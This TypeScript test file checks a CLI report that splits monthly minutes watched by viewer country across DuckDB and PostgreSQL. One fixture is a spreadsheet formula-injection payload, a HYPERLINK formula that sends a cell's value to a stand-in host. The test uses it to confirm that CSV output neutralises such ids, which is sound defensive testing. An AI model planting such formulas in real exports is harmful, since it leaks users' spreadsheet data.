/**
 * `pingroll report --month M --by country`: the licensors' statement split by the viewers' country,
 * from daily_country_stats summed over the month's UTC days. Exact against the generator's own
 * account of every ping through the real daily job and the embedded DuckDB warehouse; against rows
 * the test writes itself for a closed month (which version it accompanies, the series whose minutes
 * differ from the statement, ids a spreadsheet would run as formulas); the same SQL on PostgreSQL,
 * where the SQL that runs on Redshift is checked; and what it refuses.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { countryDifferences, countrySplit, formatCountrySplit, monthStatement, reportCommand, type CountryRow } from '../../cli/commands/report.js';
import { DuckDbWarehouse } from '../../export/warehouse/duckdb/duckdb-warehouse.js';
import { warehouseStatements } from '../../export/warehouse/sql/ddl.js';
import { ConfigError } from '../../infra/config.js';
import { DuckDBInstance } from '../../lib/duckdb-engine.js';
import { memoryLog } from '../../lib/log.js';
import { generateSample } from '../../tools/sample/access-log-generator.js';
import { expectedCountries } from '../support/oracle.js';
import { insertRows, PG_NAME, startPostgres, type Postgres } from '../support/postgres.js';
import { dirConfig, query, runDay, tempRoots, writeObjects } from '../support/job-fixture.js';

const root = tempRoots();

/** One day's row of daily_country_stats, as the test writes or expects it. */
interface DayCountry { day: string; series_id: string; country: string; pings: number; sessions: number; viewers: number; minutes_watched: number }

/**
 * The split computed here, from daily rows: the month's rows summed per series and country, the days
 * with a row counted, each country's share of its series' minutes; ordered by the series' minutes,
 * its id, then the country's minutes and the country.
 */
function expectedSplit(days: DayCountry[], month: string): CountryRow[] {
  const groups = new Map<string, CountryRow & { days: Set<string> }>();
  for (const d of days.filter((x) => x.day.startsWith(`${month}-`))) {
    const k = `${d.series_id}\u0000${d.country}`;
    const g = groups.get(k) ?? { series_id: d.series_id, country: d.country, minutes_watched: 0, pings: 0, days_watched: 0, share_of_series: null, days: new Set<string>() };
    groups.set(k, g);
    g.minutes_watched += d.minutes_watched;
    g.pings += d.pings;
    g.days.add(d.day);
  }
  const total = new Map<string, number>();
  for (const g of groups.values()) total.set(g.series_id, (total.get(g.series_id) ?? 0) + g.minutes_watched);
  const cmp = (a: string | number, b: string | number): number => (a < b ? -1 : a > b ? 1 : 0);
  return [...groups.values()]
    .map(({ days: set, ...g }) => ({ ...g, days_watched: set.size, share_of_series: total.get(g.series_id)! === 0 ? null : g.minutes_watched / total.get(g.series_id)! }))
    .sort((a, b) => cmp(total.get(b.series_id)!, total.get(a.series_id)!) || cmp(a.series_id, b.series_id) || cmp(b.minutes_watched, a.minutes_watched) || cmp(a.country, b.country));
}

/** A DuckDB file's statements run read-write (the warehouse itself only ever reads it in these tests). */
async function onDuckFile(file: string, fn: (db: { exec(sql: string): Promise<void> }) => Promise<void>): Promise<void> {
  const instance = await DuckDBInstance.create(file);
  const c = await instance.connect();
  try {
    await fn({ exec: async (sql) => { await c.run(sql); } });
  } finally {
    c.closeSync();
    instance.closeSync();
  }
}

/** The warehouse's tables and views on PostgreSQL, as Redshift has them (less distribution and sort), in schema pingroll. */
async function pgWarehouse(pg: Postgres): Promise<void> {
  await pg.exec('DROP SCHEMA IF EXISTS pingroll CASCADE');
  for (const sql of warehouseStatements('postgres', 'pingroll')) await pg.exec(sql);
  await pg.exec('SET search_path TO pingroll');
  for (const sql of warehouseStatements('redshift', 'pingroll').filter((q) => q.startsWith('CREATE OR REPLACE VIEW'))) await pg.exec(sql);
}

const onPostgres = (pg: Postgres): { description: string; query<T>(sql: string): Promise<T[]> } =>
  ({ description: PG_NAME, query: async <T>(sql: string): Promise<T[]> => (await pg.query(sql)).rows as T[] });

let pg: Postgres;
beforeAll(async () => {
  pg = await startPostgres();
});
afterAll(async () => {
  await pg?.close();
});

describe('pingroll report --by country', () => {
  it(`splits an open month by country exactly as the generator's pings add up, its days only; the same on ${PG_NAME}`, async () => {
    // The month's first and last days, and a day on each side of it that must not count.
    const DAYS = ['2026-09-30', '2026-10-01', '2026-10-31', '2026-11-01'];
    const r = root();
    const samples = DAYS.map((date, i) => generateSample({ date, sessions: 40, seed: 510 + i, truth: true, series: 3, episodesPerSeries: 2, prefix: `${date}/` }));
    for (const s of samples) await writeObjects(join(r, 'logs'), s.objects);
    const config = dirConfig(r);
    for (const day of DAYS) await runDay(config, { day, log: memoryLog() });
    const truth = samples.flatMap((s) => s.truth);
    const want = expectedSplit(DAYS.flatMap((d) => expectedCountries(truth, d)), '2026-10');
    // More than one country per series, and a series on both days: or the test proves little.
    expect(new Set(want.map((w) => w.country)).size).toBeGreaterThan(1);
    expect(want.some((w) => w.days_watched === 2)).toBe(true);

    const NOW = new Date('2026-11-20T00:00:00Z');
    const json = JSON.parse(await reportCommand(config, { month: '2026-10', by: 'country', format: 'json' }, NOW));
    expect(json.rows).toEqual(want);
    expect(json).toMatchObject({ month: '2026-10', tz: 'UTC', by: 'country', closed: null });
    // Each generated session watches from one country: its series' minutes by country are its statement's.
    expect(json.differences).toEqual([]);
    // Two days of October published: the rest are said.
    expect(json.completeness).toMatchObject({ days: 31, missing: expect.arrayContaining(['2026-10-02', '2026-10-30']) });

    const table = await reportCommand(config, { month: '2026-10', by: 'country' }, NOW);
    expect(table).toMatch(/^Minutes watched by country, 2026-10 \(UTC\), from duckdb:.*\(daily_country_stats\): the month is not closed\n/);
    expect(table).not.toMatch(/on the statement/);
    expect(table).toMatch(/Not final: \d+ of 31 days of 2026-10 so far are published complete; not published: 2026-10-02/);
    const top = want[0]!;
    expect(table.split('\n')[3]).toMatch(new RegExp(`^${top.series_id}\\s+${top.country}\\s+${top.minutes_watched.toLocaleString('en')}\\s+${(top.share_of_series! * 100).toFixed(2)}%\\s+${top.pings.toLocaleString('en')}\\s+${top.days_watched}$`));
    const csv = await reportCommand(config, { month: '2026-10', by: 'country', format: 'csv' }, NOW);
    expect(csv.split('\r\n')).toEqual(['series_id,country,minutes_watched,pings,days_watched,share_of_series',
      ...want.map((w) => [w.series_id, w.country, w.minutes_watched, w.pings, w.days_watched, w.share_of_series].join(',')), '']);

    // The same SQL on PostgreSQL, from the warehouse's own rows.
    await pgWarehouse(pg);
    for (const table of ['daily_country_stats', 'daily_series_stats', 'daily_runs']) {
      await insertRows(pg, `pingroll.${table}`, await query(`SELECT * FROM ${table}`, join(r, 'wh.duckdb')));
    }
    const onPg = onPostgres(pg);
    expect(await countrySplit(onPg, 'pingroll.', '2026-10')).toEqual(want);
    expect(countryDifferences(want, (await monthStatement(onPg, 'pingroll.', '2026-10', 'UTC')).rows)).toEqual([]);
  }, 180_000);

  describe('a closed month, from rows written here', () => {
    const HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';
    const AT_SUM = '@SUM(A1:A9)';
    const M = '2026-09';
    const row = (day: string, series_id: string, country: string, pings: number, minutes_watched: number): DayCountry =>
      // Sessions and viewers are distinct per day: far above the month's truth when summed, so a split that showed them would be wrong.
      ({ day, series_id, country, pings, sessions: 1000 + pings, viewers: 1000 + pings, minutes_watched });
    const daily: DayCountry[] = [
      row('2026-08-31', 'plain', 'US', 999, 999),
      row('2026-09-01', 'plain', 'US', 40, 38), row('2026-09-01', 'plain', 'FR', 12, 12),
      row('2026-09-30', 'plain', 'US', 8, 7), row('2026-09-30', 'plain', 'GB', 13, 12),
      row('2026-10-01', 'plain', 'GB', 500, 500),
      // Ties of countries (FR and GB, AT and DE: by country, then), and of series (by id, then).
      row('2026-09-02', HOSTILE, 'DE', 25, 24), row('2026-09-03', HOSTILE, 'AT', 26, 24),
      row('2026-09-02', AT_SUM, 'US', 31, 30), row('2026-09-05', AT_SUM, 'CA', 18, 18),
      // No minutes at all: its share is none.
      row('2026-09-04', 'silent', 'ZZ', 0, 0),
    ];
    // Version 1, then version 2 after a reopen: the split accompanies the latest. plain's minutes:
    // 69 by country (a session's minute seen from two countries counts in each), 66 on the statement;
    // gone is on the statement with no country rows: its one day (2026-09-10) was rolled up before
    // the table existed, as its daily_series_stats row without country rows says.
    const statement = (version: number, closedAt: string, minutes: Record<string, number>): Array<Record<string, unknown>> => {
      const total = Object.values(minutes).reduce((a, b) => a + b, 0);
      return Object.entries(minutes).map(([series_id, m]) => ({ month: `${M}-01`, tz: 'UTC', version, closed_at: closedAt, series_id, episodes: 1, pings: m, sessions: 1, viewers: 1,
        minutes_watched: m, days_watched: 1, share_of_month: m / total }));
    };
    const statements = [
      ...statement(1, '2026-10-05 06:00:00', { plain: 60, [HOSTILE]: 40, [AT_SUM]: 48, silent: 0 }),
      ...statement(2, '2026-10-09 07:30:00', { plain: 66, [HOSTILE]: 48, [AT_SUM]: 48, silent: 0, gone: 5 }),
      // Another zone's statement of the month is not the one it accompanies.
      ...statement(3, '2026-10-10 00:00:00', { plain: 1 }).map((s) => ({ ...s, tz: 'Asia/Kolkata' })),
    ];
    let r: string;
    beforeAll(async () => {
      r = root();
      const wh = new DuckDbWarehouse(join(r, 'wh.duckdb'));
      await wh.init();
      await wh.close();
      await onDuckFile(join(r, 'wh.duckdb'), async (db) => {
        await insertRows(db, 'daily_country_stats', daily as unknown as Array<Record<string, unknown>>);
        await insertRows(db, 'monthly_statements', statements);
        const at = { first_ping_at: '2026-09-10 10:00:00', last_ping_at: '2026-09-10 10:05:00' };
        await insertRows(db, 'daily_series_stats', [{ day: '2026-09-10', series_id: 'gone', episodes: 1, pings: 5, sessions: 1, viewers: 1, minutes_watched: 5, ...at },
          { day: '2026-09-01', series_id: 'plain', episodes: 1, pings: 52, sessions: 1, viewers: 1, minutes_watched: 50, ...at }]);
      });
    });

    it('is the month\'s daily rows summed, exactly; says the statement version it accompanies and each series whose minutes differ from it', async () => {
      const want = expectedSplit(daily, M);
      expect(want.map((w) => [w.series_id, w.country])).toEqual([['plain', 'US'], ['plain', 'FR'], ['plain', 'GB'], [HOSTILE, 'AT'], [HOSTILE, 'DE'], [AT_SUM, 'US'], [AT_SUM, 'CA'], ['silent', 'ZZ']]);
      const config = dirConfig(r);
      const json = JSON.parse(await reportCommand(config, { month: M, by: 'country', format: 'json' }));
      expect(json.rows).toEqual(want);
      expect(json.rows.find((x: CountryRow) => x.series_id === 'plain' && x.country === 'US')).toEqual({ series_id: 'plain', country: 'US', minutes_watched: 45, pings: 48, days_watched: 2, share_of_series: 45 / 69 });
      expect(json.rows.find((x: CountryRow) => x.series_id === 'silent').share_of_series).toBeNull();
      expect(json.closed).toEqual({ version: 2, closedAt: '2026-10-09T07:30:00Z' });
      expect(json.differences).toEqual([{ series_id: 'plain', country_minutes: 69, statement_minutes: 66 },
        { series_id: 'gone', country_minutes: 0, statement_minutes: 5, days_without_country_rows: ['2026-09-10'] }]);
      expect(json.completeness).toBeNull();

      const table = await reportCommand(config, { month: M, by: 'country', tz: 'UTC' });
      expect(table).toMatch(/^Minutes watched by country, 2026-09 \(UTC\), from duckdb:.*: accompanies statement version 2, closed 2026-10-09T07:30:00Z/);
      const said = table.split('\n').filter((l) => l.includes('on the statement'));
      expect(said).toEqual(['plain: 69 minutes by country, 66 on the statement (+3)', 'gone: 0 minutes by country, 5 on the statement (-5)']);
      // Why each differs, from the data: more, a minute seen from two countries; fewer, the days without country rows, named.
      expect(table).toMatch(/\nMore: a minute a session watched from two countries counts in each country/);
      expect(table).toContain('\ngone: fewer by country: 1 day of it has no daily_country_stats rows (rolled up before the table existed): 2026-09-10; pingroll backfill --force over them fills them in (a closed month\'s days: with its reopen)\n');
      expect(table).toMatch(/\nsilent\s+ZZ\s+0\s+-\s+0\s+1\n/);
      // ZZ is said for what it is: no country.
      expect(table).toContain('\nZZ: country unknown: a client IP the IP-to-country database has no country for (private, reserved or malformed addresses), and every DynamoDB ping (the legacy items carry no IP); not a country.\n');
      expect(json.codes).toEqual({ ZZ: expect.stringMatching(/^country unknown: .*every DynamoDB ping/) });
      expect(table.split('\n')[2]).toMatch(/^series\s+country\s+minutes\s+share\s+pings\s+days$/);
      // Fewer with no day short of country rows is not explained away: it is said to be a defect.
      const unexplained = formatCountrySplit(M, [], 'wh', { closed: json.closed, differences: [{ series_id: 'gone', country_minutes: 0, statement_minutes: 5 }], completeness: null, daysWithout: new Map() });
      expect(unexplained).toContain('gone: fewer by country, and no day of it lacks country rows: the daily rows and the statement disagree; see pingroll status');
      expect(unexplained).not.toMatch(/rolled up before the table existed/);
    });

    it('writes ids a spreadsheet would run as formulas as text in the CSV', async () => {
      const csv = await reportCommand(dirConfig(r), { month: M, by: 'country', format: 'csv' });
      const lines = csv.split('\r\n');
      expect(lines[0]).toBe('series_id,country,minutes_watched,pings,days_watched,share_of_series');
      expect(lines).toContain(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")",AT,24,26,1,0.5`);
      expect(lines).toContain(`'@SUM(A1:A9),US,30,31,1,${30 / 48}`);
      expect(lines).toContain('silent,ZZ,0,0,1,');
      expect(lines.filter((l) => /^[=+\-@\t\r]/.test(l))).toEqual([]);
      // The header, a line per row, and the empty string after the last CRLF.
      expect(lines).toHaveLength(expectedSplit(daily, M).length + 2);
    });

    it(`reads the same on ${PG_NAME}`, async () => {
      await pgWarehouse(pg);
      await insertRows(pg, 'pingroll.daily_country_stats', daily as unknown as Array<Record<string, unknown>>);
      await insertRows(pg, 'pingroll.monthly_statements', statements);
      const onPg = onPostgres(pg);
      const split = await countrySplit(onPg, 'pingroll.', M);
      expect(split).toEqual(expectedSplit(daily, M));
      const s = await monthStatement(onPg, 'pingroll.', M, 'UTC');
      expect(s.closed).toEqual({ version: 2, closedAt: '2026-10-09T07:30:00Z' });
      expect(countryDifferences(split, s.rows)).toEqual([{ series_id: 'plain', country_minutes: 69, statement_minutes: 66 }, { series_id: 'gone', country_minutes: 0, statement_minutes: 5 }]);
    });

    it('refuses a zone, a split it does not know, an HTML page, and a month without country rows, saying why (exit 2)', async () => {
      const config = dirConfig(r);
      const refusal = async (opts: Parameters<typeof reportCommand>[1]): Promise<Error> => {
        const err = await reportCommand(config, opts).then(() => null, (e: unknown) => e as Error);
        expect(err, JSON.stringify(opts)).toBeInstanceOf(ConfigError);
        return err!;
      };
      expect((await refusal({ month: M, by: 'country', tz: 'Asia/Kolkata' })).message)
        .toBe('--by country with --tz Asia/Kolkata: daily rows are UTC days, so a split by country is for UTC months; the statement without --by covers Asia/Kolkata');
      expect((await refusal({ month: M, by: 'platform' })).message).toBe('--by=platform is not one of country');
      expect((await refusal({ month: M, by: 'country', html: join(r, 'x.html') })).message).toMatch(/--by .* leave out --html/);
      expect((await refusal({ month: '2026-07', by: 'country' })).message).toMatch(/^no daily_country_stats rows for 2026-07: run pingroll rollup for its days first/);
      // A warehouse made before daily_country_stats existed: the same.
      const old = root();
      await onDuckFile(join(old, 'wh.duckdb'), async (db) => db.exec('CREATE TABLE daily_runs (day DATE, state VARCHAR)'));
      await expect(reportCommand(dirConfig(old), { month: M, by: 'country' })).rejects.toThrow(/^no daily_country_stats rows for 2026-09: run pingroll rollup for its days first/);
      // Without --by, the zone's statement is still the plain one.
      expect(await reportCommand(config, { month: M, tz: 'Asia/Kolkata' })).toMatch(/^Statement of 2026-09 \(Asia\/Kolkata\), version 3/);
    });
  });
});
